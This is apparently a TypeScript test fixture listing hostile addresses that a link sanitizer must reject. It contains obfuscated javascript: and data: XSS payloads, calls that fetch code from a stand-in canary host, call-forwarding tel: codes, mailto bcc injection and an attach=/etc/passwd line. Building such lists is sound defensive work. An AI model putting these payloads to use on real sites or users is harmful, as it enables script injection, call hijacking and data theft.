// Addresses that must not become a link or a picture, and that must not be asked. `CANARY` stands for a host that counts
// who asks it.

/** What a script address would do. */
const RUN = 'pwned()';

const script = `javascript:${RUN}`;

/** A dangerous scheme behind each sign that a parser of addresses takes off, and behind some that it does not. */
const controls = Array.from({ length: 33 }, (_, code) => String.fromCharCode(code) + script);
const spaces = ['\u007f', '\u0085', '\u00a0', '\u00ad', '\u1680', '\u180e', '\u2000', '\u200b', '\u2028', '\u2029'];
const marks = ['\u202e', '\u2060', '\u3000', '\ufeff', '\ufffd', '\\', '/', '//', '///', '"', "'", '<', '`', '(', ':'];

/** A sign within the scheme, at each of its places. */
const within = ['\t', '\n', '\r', '\r\n', '\u0000', '\u00ad', '\u200b', '\u200d', '%09', '&#9;', '&Tab;', '\\'].flatMap(
  (sign) => [1, 4, 9, 10].map((place) => script.slice(0, place) + sign + script.slice(place)),
);

const spellings = [
  script,
  script.toUpperCase(),
  `jAvAsCrIpT:${RUN}`,
  `java\u017fcript:${RUN}`,
  `\uff4aavascript:${RUN}`,
  `javascr\u0131pt:${RUN}`,
  `javascr\u0130pt:${RUN}`,
  `javascript\uff1a${RUN}`,
  `javascript\u02d0${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `%6A%61%76%61script:${RUN}`,
  `\\u006aavascript:${RUN}`,
  `javascript:${RUN}//https://clinic.example/`,
  `javascript://clinic.example/%0a${RUN}`,
  `javascript:/*https://clinic.example/*/${RUN}`,
  `javascript:void(${RUN})`,
  `javascript:'<script>${RUN}</script>'`,
  `javascript:%70wned()`,
  `javascript:import('//CANARY/x.js')`,
  `javascript:fetch('//CANARY/x')`,
  `javascript:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `feed:feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `jar:javascript:${RUN}!/`,
  `wyciwyg:javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `VBSCRIPT:${RUN}`,
  `livescript:${RUN}`,
  `mocha:${RUN}`,
  `jscript:${RUN}`,
  `ecmascript:${RUN}`,
  `about:blank`,
  `about:srcdoc`,
  `about:javascript:${RUN}`,
];

const page = `<script>parent.${RUN};fetch('//CANARY/x')</script>`;
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="//CANARY/x"/></svg>`;
const documents = [
  'text/html',
  'text/HTML;charset=utf-8',
  'text/html;,',
  'application/xhtml+xml',
  'text/xml',
  'application/xml',
  'text/xsl',
  'image/svg+xml',
  'IMAGE/SVG+XML',
  'image/svg+xml;charset=utf-8',
  'image/png,image/svg+xml',
  'multipart/x-mixed-replace',
  'text/javascript',
  'text/css',
  'application/pdf',
  'application/octet-stream',
  '',
].flatMap((type) => [
  `data:${type},${type.includes('svg') ? drawing : page}`,
  `data:${type};base64,${btoa(type.includes('svg') ? drawing : page)}`,
  ` data:${type},${encodeURIComponent(page)}`,
  `DATA:${type},${page}`,
]);

const schemes =
  'blob filesystem file ftp sftp ws wss gopher ldap telnet ssh irc news nntp chrome resource moz-extension chrome-extension ' +
  'ms-settings ms-word shell search-ms steam slack zoommtg intent android-app market itms-services facetime facetime-audio ' +
  'skype callto whatsapp bitcoin magnet mms rtsp cid mid mhtml mk res jar web+x x-apple-data vnd.ms.radio geo tg viber';
const others = schemes.split(' ').flatMap((scheme) => [`${scheme}://CANARY/x`, `${scheme}:${RUN}`]);

/** Calls that forward a patient's calls, cost money, dial digits at the far end, or reach nobody. */
const calls =
  'tel:**21*7867015750# tel:**21*7867015750%23 tel:*%2306%23 tel:*72,7867015750 tel:#31#7867015750 tel:%2a%2a21%2a7867015750%23 ' +
  'tel:7867015750,,1234# tel:7867015750;phone-context=canary.example tel:7867015750;isub=1 tel:7867015750p1 tel:javascript ' +
  'tel: tel:// tel://CANARY tel:112;postd=1 tel:+1786%0a701 sms:7867015750?body=x&to=900 sms:7867015750;7867015751 ' +
  'sms:7867015750,7867015751 sms:*21# sms:?body=x smsto:7867015750 mmsto:7867015750 mailto:a@b.example?bcc=canary@c.example ' +
  'mailto:a@b.example?cc=canary@c.example mailto:a@b.example?to=canary@c.example mailto:a@b.example?attach=/etc/passwd ' +
  'mailto:a@b.example?subject=x%0d%0abcc:canary@c.example mailto:a@b.example,canary@c.example mailto:?bcc=canary@c.example ' +
  'mailto:a@b.example?subject=x&bcc=canary@c.example mailto:a@b.example?BCC=canary@c.example mailto:a%2ccanary@c.example ' +
  'mailto:"a"@b.example mailto:a@b.example?body=%0A%0D mailto:javascript:pwned()';

/** Addresses of the web that carry a name or a password. */
const named = ['user:secret@CANARY/x', 'user@CANARY/x', ':secret@CANARY/x', 'clinic.example@CANARY/x'].flatMap(
  (rest) => [`https://${rest}`, `http://${rest}`, `//${rest}`, `https:${rest}`],
);

/** Each once. */
export const addresses: readonly string[] = [
  ...new Set([
    ...controls,
    ...[...spaces, ...marks].map((sign) => sign + script),
    ...within,
    ...spellings,
    ...documents,
    ...others,
    ...calls.split(' '),
    ...named,
  ]),
];
